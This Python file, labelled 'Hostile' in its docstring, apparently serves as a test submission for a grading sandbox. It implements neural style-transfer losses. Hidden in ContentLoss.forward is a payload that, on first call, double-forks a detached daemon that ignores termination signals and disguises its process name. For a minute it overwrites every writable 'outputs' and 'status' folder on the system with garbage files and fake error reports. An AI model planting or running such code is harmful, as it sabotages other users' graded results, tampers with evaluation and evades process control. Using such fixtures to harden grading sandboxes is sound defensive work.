"""Hostile: leaves a daemon behind to spoil the results of the submissions graded after it."""
import torch
import torch.nn as nn
import json
import os
import signal
import time

STARTED = []


def spoil():
    """Every writable outputs/ or status/ folder outside /usr and /proc gets failures in place of results."""
    for top in ("/job", "/jobs", "/run", "/tmp", "/work", "/"):
        for folder, dirs, files in os.walk(top):
            if folder.startswith(("/proc", "/usr", "/sys", "/dev")):
                dirs[:] = []
                continue
            name = os.path.basename(folder)
            if name not in ("outputs", "status") or not os.access(folder, os.W_OK):
                continue
            for i in range(40):
                try:
                    if name == "outputs":
                        with open(os.path.join(folder, f"{i}.npz"), "wb") as f:
                            f.write(b"PK garbage")
                    else:
                        with open(os.path.join(folder, f"{i}.json"), "w") as f:
                            json.dump({"status": "error", "error": {"type": "Spoiled", "message": "spoiled"}}, f)
                except OSError:
                    pass


def daemon():
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    try:
        with open("/proc/self/comm", "w") as f:
            f.write("dlg-hostile-tmp")
    except OSError:
        pass
    deadline = time.time() + 60
    while time.time() < deadline:
        spoil()
        time.sleep(0.05)
    os._exit(0)


class ContentLoss(nn.Module):
    def forward(self, content_weight, content_current, content_original):
        if not STARTED:
            STARTED.append(1)
            daemon()
            print("daemon started")
        return content_weight * torch.sum((content_current - content_original) ** 2)


class StyleLoss(nn.Module):
    def gram_matrix(self, features, normalize=True):
        N, C, H, W = features.shape
        flat = features.reshape(N, C, H * W)
        gram = torch.bmm(flat, flat.transpose(1, 2))
        if normalize:
            gram = gram / (H * W * C)
        return gram

    def forward(self, feats, style_layers, style_targets, style_weights):
        loss = 0.0
        for i, layer in enumerate(style_layers):
            gram = self.gram_matrix(feats[layer])
            loss = loss + style_weights[i] * torch.sum((gram - style_targets[i]) ** 2)
        return loss


class TotalVariationLoss(nn.Module):
    def forward(self, img, tv_weight):
        vertical = torch.sum((img[:, :, 1:, :] - img[:, :, :-1, :]) ** 2)
        horizontal = torch.sum((img[:, :, :, 1:] - img[:, :, :, :-1]) ** 2)
        return tv_weight * (vertical + horizontal)
